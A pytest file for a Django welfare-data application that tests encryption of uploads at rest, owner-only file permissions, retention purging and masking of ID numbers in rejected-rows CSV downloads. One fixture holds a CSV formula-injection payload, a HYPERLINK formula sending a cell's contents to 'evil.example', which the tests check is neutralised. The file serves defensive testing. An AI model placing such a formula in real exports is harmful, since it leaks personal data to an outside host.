"""Uploads at rest (issue 10, points 3 and 6): no plaintext personal data on disk, owner-only files,
deletion after the retention period, and rejected-rows downloads that are safe to open and masked
for whoever may not see full ID numbers."""

from __future__ import annotations

import datetime as dt
import os
import stat
import time
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from huican.core.crypto import DecryptionError
from huican.core.filecrypt import decrypted_copy, encrypt_bytes_to, read_decrypted, secure_var_tree
from huican.core.models import AuditEntry
from huican.exchange.models import ImportBatch
from huican.exchange.retention import purge_uploads
from tests.exchange.helpers import make_id, registry_csv
from tests.factories import id_number, make_user

DIBAO_HEADER = "公民身份号码,姓名,保障类别,起始日期,终止日期,月保障金额"
GOOD_ID = make_id("14090219900101001")
BAD_ID = GOOD_ID[:17] + ("1" if GOOD_ID[17] != "1" else "2")


def dibao_csv() -> bytes:
    rows = [
        DIBAO_HEADER,
        f"{GOOD_ID},测甲,城市,2024-01-01,,500",
        f'{BAD_ID},"=HYPERLINK(""http://evil.example/?""&A1,""点我"")",城市,2024-01-01,,500',
        f"{make_id('14090219900101002')},@SUM(1+1),城市,不是日期,,500",
    ]
    return ("\n".join(rows) + "\n").encode("utf-8")


def upload_and_import(client: Any, kind: str, name: str, content: bytes) -> ImportBatch:
    response = client.post("/imports/upload/", {"kind": kind, "file": SimpleUploadedFile(name, content)})
    assert response.status_code == 302, response.content.decode()
    preview = client.get(response["Location"])
    assert preview.status_code == 200
    assert client.post(response["Location"]).status_code == 302
    return ImportBatch.objects.get()


def files_under(folder: Path) -> list[Path]:
    return [p for p in folder.rglob("*")]


@pytest.mark.django_db
def test_nothing_personal_is_stored_in_plaintext_and_everything_is_owner_only(
    client: Any, city_staff: Any, tmp_var: Path
) -> None:
    client.force_login(city_staff)
    content = registry_csv(good=3, bad=2)
    batch = upload_and_import(client, "registry", "名册.csv", content)
    assert (batch.accepted, batch.rejected) == (3, 2)
    ids = [line.split(",")[1].encode() for line in content.decode().splitlines()[1:]]
    names = [line.split(",")[0].encode() for line in content.decode().splitlines()[1:]]
    stored = files_under(tmp_var / "media")
    assert any(p.name.startswith("upload.csv") for p in stored)
    assert any(p.name.startswith("preview.json") for p in stored)
    assert any(p.name.startswith("rejects.csv") for p in stored)
    for path in stored:
        mode = stat.S_IMODE(path.stat().st_mode)
        if path.is_dir():
            assert mode == 0o700, path
            continue
        assert mode == 0o600, path
        data = path.read_bytes()
        for secret in [*ids, *names, "名册".encode()]:
            assert secret not in data, (path, secret)
    assert stat.S_IMODE((tmp_var / "media").stat().st_mode) == 0o700
    # The decrypted copy the readers needed is gone.
    assert not list((tmp_var / "tmp").iterdir())
    # …and the files still work: the rejected rows can be downloaded, decrypted.
    download = client.get(f"/imports/{batch.pk}/rejects.csv")
    body = b"".join(download.streaming_content).decode("utf-8-sig")
    assert len(body.strip().splitlines()) == 3 and "rejected.csv" in download["Content-Disposition"]


@pytest.mark.django_db
def test_an_encrypted_file_that_was_changed_or_cut_does_not_decrypt(tmp_var: Path) -> None:
    target = tmp_var / "x.enc"
    data = os.urandom(3 * 1024 * 1024 + 17)
    encrypt_bytes_to(target, data)
    assert read_decrypted(target) == data
    with decrypted_copy(target, suffix=".csv") as plain:
        assert plain.read_bytes() == data and stat.S_IMODE(plain.stat().st_mode) == 0o600
        assert stat.S_IMODE(plain.parent.stat().st_mode) == 0o700
    assert not plain.exists() and not plain.parent.exists()
    raw = target.read_bytes()
    target.write_bytes(raw[: len(raw) - (1024 * 1024 + 100)])  # the last chunk cut off
    with pytest.raises(DecryptionError):
        read_decrypted(target)
    changed = bytearray(raw)
    changed[100] ^= 1
    target.write_bytes(bytes(changed))
    with pytest.raises(DecryptionError):
        read_decrypted(target)


@pytest.mark.django_db
def test_uploads_are_deleted_after_the_retention_period(
    client: Any, city_staff: Any, tmp_var: Path, settings: Any, capsys: Any
) -> None:
    client.force_login(city_staff)
    batch = upload_and_import(client, "registry", "名册.csv", registry_csv(good=2, bad=1))
    folders = list((tmp_var / "media" / "imports").iterdir())
    assert len(folders) == 1
    assert settings.HUICAN_UPLOAD_RETENTION_DAYS == 30
    assert purge_uploads().folders == 0  # young: kept
    assert purge_uploads(now=time.time() + 29 * 86400).folders == 0
    result = purge_uploads(now=time.time() + 31 * 86400)
    assert (result.folders, result.older_than_days) == (1, 30) and result.files >= 3
    assert not folders[0].exists()
    assert AuditEntry.objects.filter(action="uploads.purge").exists()
    # The history stays; the download is simply no longer offered.
    page = client.get(f"/imports/{batch.pk}/")
    assert page.status_code == 200 and not page.context["can_download"]
    assert client.get(f"/imports/{batch.pk}/rejects.csv").status_code == 404


@pytest.mark.django_db
def test_the_purge_command(client: Any, city_staff: Any, tmp_var: Path, capsys: Any) -> None:
    from huican.cli import main

    client.force_login(city_staff)
    upload_and_import(client, "registry", "名册.csv", registry_csv(good=2, bad=1))
    assert main(["uploads", "purge"]) == 0
    assert "purged 0 uploads" in capsys.readouterr().out
    assert main(["uploads", "purge", "--older-than", "0"]) == 0
    assert "purged 1 uploads" in capsys.readouterr().out
    assert not list((tmp_var / "media" / "imports").iterdir())
    with pytest.raises(SystemExit) as exit_status:
        main(["uploads", "purge", "--older-than", "-1"])
    assert exit_status.value.code == 2


def test_the_local_state_is_made_owner_only(tmp_var: Path) -> None:
    database = tmp_var / "huican.sqlite3"
    keys = tmp_var / "keys.json"
    upload = tmp_var / "media" / "imports" / "a" / "upload.csv.enc"
    upload.parent.mkdir(parents=True)
    for path in (database, keys, upload):
        path.write_bytes(b"x")
        path.chmod(0o644)
    for folder in (tmp_var, tmp_var / "media", upload.parent):
        folder.chmod(0o755)
    secure_var_tree(tmp_var, sqlite_file=database)
    for path in (database, keys, upload):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    for folder in (tmp_var, tmp_var / "media", upload.parent):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder


@pytest.mark.django_db
def test_the_cli_rejected_rows_file_is_plaintext_but_owner_only(tmp_path: Path, capsys: Any) -> None:
    from huican.cli import main

    source = tmp_path / "低保.csv"
    source.write_bytes(dibao_csv())
    assert main(["import", "dibao", str(source)]) == 0
    rejects = tmp_path / "低保.rejected.csv"
    assert rejects.read_bytes().startswith(b"\xef\xbb\xbf")  # FORMATS.md: plaintext CSV
    assert stat.S_IMODE(rejects.stat().st_mode) == 0o600


@pytest.mark.django_db
def test_rejected_rows_download_is_formula_safe_and_masked_without_full_id_rights(
    client: Any, tmp_var: Path
) -> None:
    officer = make_user("department_officer", "140900", username="minzheng", import_kinds=["dibao"])
    client.force_login(officer)
    batch = upload_and_import(client, "dibao", "低保.csv", dibao_csv())
    assert batch.rejected == 2
    body = b"".join(client.get(f"/imports/{batch.pk}/rejects.csv").streaming_content).decode("utf-8-sig")
    assert BAD_ID not in body and GOOD_ID[:4] in body
    assert BAD_ID[:4] + "*" * 10 + BAD_ID[-4:] in body
    for line in body.splitlines():
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "-", "@")), line
    assert "'=HYPERLINK" in body and "'@SUM" in body

    # A city staff member with the right to full ID numbers gets them (still formula-safe).
    full = make_user("city_staff", "140900", username="shi", may_view_full=True)
    client.force_login(full)
    body = b"".join(client.get(f"/imports/{batch.pk}/rejects.csv").streaming_content).decode("utf-8-sig")
    assert BAD_ID in body and "'=HYPERLINK" in body


def test_a_department_officer_id_number_is_masked_in_unknown_columns_too() -> None:
    from huican.exchange.rejects import mask_rejects

    other = id_number("140902", dt.date(1980, 1, 1), 7)
    data = (
        "\ufeff行号,列,原因,身份证号(18位),备注\n2,公民身份号码,校验码错误,"
        + BAD_ID
        + ",户主 "
        + other
        + "\n"
    ).encode()
    masked = mask_rejects("dibao", data).decode("utf-8-sig")
    assert BAD_ID not in masked and other not in masked
    assert other[:4] + "********" + other[-4:] in masked


@pytest.mark.django_db
def test_no_rejection_reason_carries_a_full_id_number(tmp_path: Path) -> None:
    """Reasons are kept in the database and shown without the full-ID right: a wrong certificate
    number names the two digits it should end with, not the whole expected number."""
    from huican.exchange.models import RejectedRow
    from huican.exchange.pipeline import run_import

    number = id_number("140902", dt.date(1980, 1, 1), 11)
    header = "姓名,公民身份号码,残疾人证号,残疾类别,残疾等级,发证日期,户籍地区划代码,城乡类别,户编号"
    source = tmp_path / "名册.csv"
    source.write_text(f"{header}\n测甲,{number},{number}43,4,2,2021-03-01,140902,农村,H1\n", encoding="utf-8")
    batch = run_import(kind="registry", path=source, actor="测试")
    reasons = RejectedRow.objects.get(batch=batch).reasons
    assert "“42”" in reasons and number not in reasons
